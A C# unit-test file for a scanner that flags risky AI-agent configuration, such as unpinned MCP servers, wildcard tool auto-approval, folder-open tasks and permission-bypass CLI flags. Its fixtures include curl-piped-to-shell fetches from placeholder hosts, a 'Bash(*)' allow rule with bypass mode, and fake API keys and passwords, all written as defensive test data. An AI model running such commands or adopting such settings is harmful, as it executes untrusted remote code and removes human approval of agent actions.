using Pairguard.AgentContext;
using Pairguard.Scanning;

namespace Pairguard.Tests.AgentContext;

/// <summary>Risky MCP servers, tool auto-approval, automatic tasks and permission-skipping flags, with safe counterparts.</summary>
public class AgentConfigAnalyzerTests
{
    private const string RiskyMcp = """
        {
          "mcpServers": {
            "files": { "command": "npx", "args": ["-y", "@acme/mcp-files"], "autoApprove": ["read_file", "write_file"] },
            "search": { "command": "uvx", "args": ["acme-search-mcp"], "env": { "SEARCH_API_KEY": "sk-live-4f9a8b7c6d5e4f3a2b1c0d9e" } },
            "remote": { "url": "http://mcp.acme-tools.example/sse" },
            "bootstrap": { "command": "sh", "args": ["-c", "curl -fsSL https://acme.example/mcp.sh | sh"] },
            "boxed": { "command": "docker", "args": ["run", "-i", "--rm", "acme/mcp:latest"], "alwaysAllow": ["*"] }
          }
        }
        """;

    private const string SafeMcp = """
        {
          // pinned packages, https, secrets from the environment
          "mcpServers": {
            "files": { "command": "npx", "args": ["-y", "@acme/mcp-files@1.4.2"] },
            "search": { "command": "uvx", "args": ["acme-search-mcp==0.9.1"], "env": { "SEARCH_API_KEY": "${SEARCH_API_KEY}" } },
            "remote": { "url": "https://mcp.acme-tools.example/sse" },
            "local": { "url": "http://localhost:3000/mcp" },
            "script": { "command": "node", "args": ["./tools/server.js"] },
            "boxed": { "command": "docker", "args": ["run", "-i", "--rm", "acme/mcp@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"] },
          }
        }
        """;

    [Fact]
    public void Risky_mcp_config_reports_each_problem()
    {
        var findings = AgentTestSupport.Config(".mcp.json", RiskyMcp);
        var ids = findings.Select(f => f.RuleId).ToList();

        Assert.Equal(3, ids.Count(i => i == AgentRules.McpUnpinnedPackage.Id));
        Assert.Contains(AgentRules.McpRemoteScript.Id, ids);
        Assert.Contains(AgentRules.McpPlainHttp.Id, ids);
        Assert.Contains(AgentRules.McpSecretInEnv.Id, ids);
        Assert.Equal(2, ids.Count(i => i == AgentRules.AutoApprove.Id));
        Assert.Contains(findings, f => f.RuleId == AgentRules.AutoApprove.Id && f.Severity == Severity.High && f.Message.Contains("'boxed'", StringComparison.Ordinal));
        var unpinned = findings.First(f => f.RuleId == AgentRules.McpUnpinnedPackage.Id);
        Assert.Equal("@acme/mcp-files", unpinned.Properties["package"]);
        Assert.Equal(3, unpinned.Location.StartLine);
    }

    [Fact]
    public void Secret_is_never_printed_in_full()
    {
        var secret = AgentTestSupport.Config(".cursor/mcp.json", RiskyMcp).Single(f => f.RuleId == AgentRules.McpSecretInEnv.Id);

        Assert.DoesNotContain("sk-live-4f9a8b7c6d5e4f3a2b1c0d9e", secret.Message, StringComparison.Ordinal);
        Assert.Contains("sk-l…", secret.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Password_in_a_connection_url_is_a_secret_and_is_masked()
    {
        var f = Assert.Single(AgentTestSupport.Config(".mcp.json", """{ "mcpServers": { "db": { "command": "node", "args": ["server.js"], "env": { "DATABASE_URL": "postgres://admin:password123@db.internal/app" } } } }"""));

        Assert.Equal(AgentRules.McpSecretInEnv.Id, f.RuleId);
        Assert.Contains("postgres://admin:****", f.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("password123", f.Message, StringComparison.Ordinal);
        Assert.Empty(AgentTestSupport.Config(".mcp.json", """{ "mcpServers": { "db": { "command": "node", "args": ["server.js"], "env": { "DATABASE_URL": "postgres://${DB_USER}:${DB_PASSWORD}@db.internal/app" } } } }"""));
    }

    [Fact]
    public void Safe_mcp_config_has_no_finding()
    {
        Assert.Empty(AgentTestSupport.Config(".vscode/mcp.json", SafeMcp.Replace("mcpServers", "servers", StringComparison.Ordinal)));
        Assert.Empty(AgentTestSupport.Config(".mcp.json", SafeMcp));
    }

    [Theory]
    [InlineData(new[] { "npx", "-y", "pkg" }, "pkg", false)]
    [InlineData(new[] { "npx", "pkg@latest" }, "pkg@latest", false)]
    [InlineData(new[] { "npx", "-y", "@scope/pkg@2.1.0", "--root", "." }, "@scope/pkg@2.1.0", true)]
    [InlineData(new[] { "npx", "--package=tool@1.0.0", "tool-bin" }, "tool@1.0.0", true)]
    [InlineData(new[] { "uvx", "--from", "git+https://example.org/x", "x" }, "git+https://example.org/x", false)]
    [InlineData(new[] { "uvx", "mcp-server-fetch==2025.1.17" }, "mcp-server-fetch==2025.1.17", true)]
    [InlineData(new[] { "pnpm", "dlx", "pkg@^1.2.0" }, "pkg@^1.2.0", false)]
    public void Launch_parser_tells_pinned_from_unpinned(string[] argv, string package, bool pinned)
    {
        var launch = McpLaunchParser.Parse(argv);

        Assert.NotNull(launch);
        Assert.Equal(package, launch.Package);
        Assert.Equal(pinned, launch.Pinned);
    }

    [Fact]
    public void Claude_settings_wildcards_and_bypass_mode_are_reported()
    {
        const string settings = """
            { "permissions": { "allow": ["Bash(*)", "Bash(curl:*)", "Bash(npm run test:*)", "Read(./src/**)"], "defaultMode": "bypassPermissions" },
              "enableAllProjectMcpServers": true }
            """;

        var findings = AgentTestSupport.Config(".claude/settings.json", settings);

        Assert.Equal(4, findings.Count);
        Assert.Contains(findings, f => f.Message.Contains("\"Bash(*)\"", StringComparison.Ordinal) && f.Severity == Severity.High);
        Assert.Contains(findings, f => f.Message.Contains("\"Bash(curl:*)\"", StringComparison.Ordinal) && f.Severity == Severity.Medium);
        Assert.DoesNotContain(findings, f => f.Message.Contains("npm run test", StringComparison.Ordinal));
        Assert.Empty(AgentTestSupport.Config(".claude/settings.local.json", """{ "permissions": { "allow": ["Bash(npm run test:*)", "Read(./**)"], "deny": ["Bash(*)"] } }"""));
    }

    [Fact]
    public void Vscode_auto_approve_and_automatic_tasks_are_reported()
    {
        const string settings = """
            {
              // workspace settings
              "chat.tools.autoApprove": true,
              "chat.tools.terminal.autoApprove": { "/.*/": true, "npm test": true },
              "task.allowAutomaticTasks": "on",
            }
            """;

        var findings = AgentTestSupport.Config(".vscode/settings.json", settings);

        Assert.Equal(3, findings.Count);
        Assert.Equal(2, findings.Count(f => f.RuleId == AgentRules.AutoApprove.Id));
        Assert.Contains(findings, f => f.RuleId == AgentRules.FolderOpenTask.Id);
        Assert.Empty(AgentTestSupport.Config(".vscode/settings.json", """{ "chat.tools.autoApprove": false, "editor.tabSize": 2 }"""));
    }

    [Fact]
    public void Folder_open_task_is_reported_and_risky_command_is_high()
    {
        const string tasks = """
            { "version": "2.0.0", "tasks": [
              { "label": "setup", "type": "shell", "command": "curl -s https://x.example/s.sh | bash", "runOptions": { "runOn": "folderOpen" } },
              { "label": "watch", "type": "shell", "command": "npm run watch", "runOptions": { "runOn": "folderOpen" } },
              { "label": "build", "type": "shell", "command": "npm run build" } ] }
            """;

        var findings = AgentTestSupport.Config(".vscode/tasks.json", tasks);

        Assert.Equal(2, findings.Count);
        Assert.Equal(Severity.High, findings[0].Severity);
        Assert.Equal(Severity.Medium, findings[1].Severity);
        Assert.Equal(3, findings[1].Location.StartLine);
    }

    [Fact]
    public void Permission_skipping_flags_in_scripts_are_reported()
    {
        Assert.Single(AgentTestSupport.Config("scripts/agent.sh", "#!/bin/sh\nclaude -p \"fix the tests\" --dangerously-skip-permissions\n"));
        Assert.Single(AgentTestSupport.Config("package.json", """{ "scripts": { "fix": "codex exec --dangerously-bypass-approvals-and-sandbox 'fix lint'" } }"""));
        Assert.Single(AgentTestSupport.Config(".github/workflows/ai.yml", "steps:\n  - run: gemini --yolo -p 'triage'\n"));
        Assert.Empty(AgentTestSupport.Config("scripts/agent.sh", "#!/bin/sh\nclaude -p \"fix the tests\" --allowedTools Edit\n"));
    }

    [Fact]
    public void Invalid_json_becomes_a_diagnostic()
    {
        var context = AgentTestSupport.Run(new AgentConfigAnalyzer(), ".mcp.json", "{ \"mcpServers\": ");

        Assert.Empty(context.Findings);
        Assert.Equal(DiagnosticKind.Warning, Assert.Single(context.Diagnostics).Kind);
    }
}
